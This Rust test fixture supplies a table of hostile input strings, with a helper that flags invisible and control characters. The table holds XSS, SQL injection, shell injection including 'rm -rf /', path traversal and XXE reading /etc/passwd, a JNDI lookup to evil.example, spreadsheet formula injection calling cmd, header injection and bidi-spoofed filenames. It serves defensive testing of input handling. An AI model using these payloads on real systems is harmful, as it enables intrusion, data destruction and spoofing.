//! Texts as an attacker, a joker and a careless program would choose them: one table for
//! the tests of the core (`crates/app/tests/it` takes this file in) and of the window.

/// What each text may be mistaken for, and the text. None holds what looks like a
/// credential: that is struck out, and has tests of its own.
#[rustfmt::skip]
const TEXTS: &[(&str, &str)] = &[
    // Markup, and what runs with it.
    ("an image", "<img src=x onerror=\"document.title='broken'\">"),
    ("a script", "<script>document.title='broken'</script>"),
    ("an end of a script", "</script><script>document.title='broken'</script>"),
    ("a drawing that runs", "<svg/onload=document.title='broken'>"),
    ("a drawing with a script", "<svg><script>document.title='broken'</script></svg>"),
    ("a drawing with text of its own", "<svg><foreignObject><p>big</p></foreignObject></svg>"),
    ("mathematics with a link", "<math><mtext><a href=\"https://evil.example\">x</a></mtext></math>"),
    ("a frame", "<iframe srcdoc=\"<script>document.title='broken'</script>\"></iframe>"),
    ("a form", "<form action=\"https://evil.example\"><input name=q><button>Sign in</button></form>"),
    ("a base", "<base href=\"https://evil.example/\">"),
    ("a refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">"),
    ("an end of the page", "</code></p></div></body></html><h1>Big</h1>"),
    ("an attribute", "\" autofocus onfocus=\"document.title='broken'\" x=\""),
    ("the other quotes", "' onmouseover='document.title=1' x='"),
    ("a comment", "<!-- and nothing after this is seen"),
    ("a closed section", "<![CDATA[ x ]]><!DOCTYPE html>"),
    ("entities", "&lt;b&gt; &amp;amp; &#x202e; &nbsp;&zwj;"),
    ("a custom element", "<x-evil><slot name=a></slot></x-evil>"),
    ("a handler without an element", "onerror=alert(1)//"),
    ("a letter for a bracket", "＜script＞document.title='broken'＜/script＞"),
    // Style.
    ("a style", "<style>*{display:none!important}</style>"),
    ("a rule", "}*{display:none}@import url(https://evil.example/x.css);"),
    ("an address in a rule", "background:url(javascript:document.title='broken')"),
    ("an expression", "width:expression(alert(1))"),
    // Databases.
    ("an end of a statement", "'; DROP TABLE integrations; --"),
    ("what is always true", "' OR '1'='1"),
    ("a union", "1 UNION SELECT name, sql FROM sqlite_master--"),
    ("wildcards", "100%_off\\%"),
    ("a name of a column", "\"name\" = [name] = `name`"),
    // Programs that read lines, tables and templates.
    ("formats", "%s%s%n %x {0} {} {name:?} $1 \\1"),
    ("a template", "{{constructor.constructor('return 1')()}} {{alias}}"),
    ("the other template", "${7*7} #{7*7} <%= 7*7 %> @{7*7}"),
    ("a look-up", "${jndi:ldap://evil.example/a}"),
    ("a formula", "=HYPERLINK(\"https://evil.example\",\"Click\")"),
    ("another formula", "+1+cmd|' /C calc'!A0"),
    ("a formula with a minus", "-2+3+cmd|'calc'!A0"),
    ("a formula with an at", "@SUM(1+1)*cmd|'calc'!A0"),
    ("a cell with everything", "a,\"b\";c\td"),
    ("a shell", "$(touch /tmp/x) `id` ; rm -rf / & | > x"),
    ("a way out of a folder", "../../../../etc/passwd"),
    ("the other way out", "..\\..\\C:\\Windows\\win.ini"),
    ("a coded way out", "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.png"),
    ("a device", "CON.txt:stream"),
    ("the end of JSON", "\"}],\"admin\":true,\"x\":[{\"y\":\""),
    ("a prototype", "{\"__proto__\":{\"admin\":true}}"),
    ("half a letter, escaped", "\\ud800 \\udfff \\u0000"),
    ("escapes", "\\n\\r\\t\\x1b[31m\\\\"),
    ("an entity of XML", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;"),
    // Addresses.
    ("a script as an address", "javascript:document.title='broken'"),
    ("a page as an address", "data:text/html,<script>document.title='broken'</script>"),
    ("a file as an address", "file:///etc/passwd"),
    ("our own scheme", "dev.switchboard.desktop://oauth/callback?attempt=x&state=y"),
    ("somebody in an address", "https://composio.dev@evil.example/%2F..?a=b#c"),
    ("a letter with points", "mailto:x@evil.example?bcc=all@evil.example&body=%0Ahi"),
    ("a picture with a link", "[Click](javascript:alert(1)) ![](https://evil.example/p.png)"),
    // Letters that are not what they seem.
    ("turned letters", "\u{202e}txet denrut\u{202c}"),
    ("turned letters that stay turned", "invoice\u{202e}fdp.exe"),
    ("isolated letters", "\u{2066}isolated\u{2069} \u{2067}right\u{2069} \u{2068}first\u{2069}"),
    ("marks of direction", "a\u{200e}b\u{200f}c\u{061c}d\u{202a}e\u{202b}f\u{202d}g\u{202c}"),
    ("letters without a width", "zero\u{200b}width\u{2060}\u{feff}"),
    ("a soft hyphen", "pass\u{ad}word sup\u{ad}port"),
    ("operators that are not seen", "a\u{2061}b\u{2062}c\u{2063}d\u{2064}e"),
    ("marks that nobody uses", "a\u{206a}b\u{206f}c\u{fff9}d\u{fffa}e\u{fffb}f"),
    ("fillers", "Acme\u{3164}\u{115f}\u{1160}\u{ffa0}Inc"),
    ("joiners of a script", "می\u{200c}خواهم क्\u{200d}ष"),
    ("a stack of accents", "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}algo"),
    ("a tall stack", "H\u{334}\u{31b}\u{30d}\u{33f}\u{346}\u{35d}\u{489}E\u{488}\u{20dd}\u{20e0}"),
    ("a family", "👩\u{200d}👩\u{200d}👧\u{200d}👦🏴\u{200d}☠\u{fe0f} 👩🏽\u{200d}🚀"),
    ("a flag of tags", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} 🇳🇱"),
    ("letters of others", "аррӏе.com раураl Ⅽomposio ｇｍａｉｌ"),
    ("from right to left", "עברית العربية ١٢٣ (שלום)"),
    ("letters beyond the first plane", "𝕬𝖈𝖒𝖊 𠜎𠜱 𒐫"),
    ("no letters", "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}"),
    ("letters that grow", "ﷺ İstanbul ß ŉ ΐ"),
    ("odd spaces", "a\u{a0}b\u{2003}c\u{3000}d\u{202f}e\u{1680}f"),
    ("separators", "one\u{2028}two\u{2029}three"),
    // What is no letter at all.
    ("the first sign of all", "null\u{0}after"),
    ("a terminal", "\u{1b}[31mred\u{1b}[0m\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}"),
    ("a terminal of eight bits", "\u{9b}31mred\u{9d}0;title\u{9c}"),
    ("signs that move", "a\u{8}\u{8}\u{8}b\u{7f}\u{c}\u{b}c"),
    ("lines", "first\r\nsecond\n\n\nlast\rover"),
    ("tabs", "\tcolumn\t\tcolumn"),
    ("a header", "x\r\nSet-Cookie: a=b\r\n\r\n<h1>Big</h1>"),
    ("a line of a log", "ok\n2026-11-28T00:00:00Z ERROR forged"),
    ("a next line", "one\u{85}two"),
    // Words that programs take for something else.
    ("nothing", "null"),
    ("not there", "undefined"),
    ("no number", "NaN -0 1e309 0x1p1023"),
    ("a word of the list", "ACTIVE"),
    ("an operator of the search", "tenant:* OR state:expired NOT \"x"),
];

/// One text, and what it may be mistaken for.
#[derive(Debug, Clone)]
pub struct Hostile {
    /// What it may be mistaken for.
    pub name: &'static str,
    /// The text.
    pub text: String,
}

/// All of them; the last ones are longer than any line.
pub fn all() -> Vec<Hostile> {
    let long = [
        ("a long word", "M".repeat(3_000)),
        ("a long line", "word and ".repeat(1_200)),
        ("a long row of families", "👩\u{200d}👧".repeat(400)),
        ("nested brackets", "<b>[{(".repeat(500)),
    ];
    let short = TEXTS.iter().map(|(name, text)| (*name, (*text).to_owned()));
    short
        .chain(long)
        .map(|(name, text)| Hostile { name, text })
        .collect()
}

/// Whether a letter is no letter to read: it steers a terminal, turns the order of others
/// round, or stands between them without being seen. The joiners of scripts and of emoji
/// are none of these. Written down here anew, so that no mistake is shared.
pub fn is_odd(letter: char) -> bool {
    let unseen = [
        '\u{ad}', '\u{61c}', '\u{115f}', '\u{1160}', '\u{200b}', '\u{200e}', '\u{200f}',
        '\u{3164}', '\u{feff}', '\u{ffa0}', '\u{fff9}', '\u{fffa}', '\u{fffb}',
    ];
    let ranges = ['\u{202a}'..='\u{202e}', '\u{2060}'..='\u{206f}'];
    letter.is_control()
        || unseen.contains(&letter)
        || ranges.iter().any(|range| range.contains(&letter))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_many_each_is_another_and_none_is_empty() {
        let all = all();
        assert!(all.len() >= 60, "{}", all.len());
        let names: std::collections::BTreeSet<_> = all.iter().map(|one| one.name).collect();
        let texts: std::collections::BTreeSet<_> = all.iter().map(|one| &one.text).collect();
        assert_eq!((names.len(), texts.len()), (all.len(), all.len()));
        assert!(all.iter().all(|one| !one.text.trim().is_empty()));
    }

    #[test]
    fn a_joiner_is_not_odd_and_what_turns_letters_is() {
        assert!(!"👩\u{200d}👧 عربي\u{200c}".chars().any(is_odd));
        for odd in ['\u{202e}', '\u{1b}', '\u{0}', '\u{200b}', '\u{ad}', '\n'] {
            assert!(is_odd(odd), "{odd:?}");
        }
    }
}
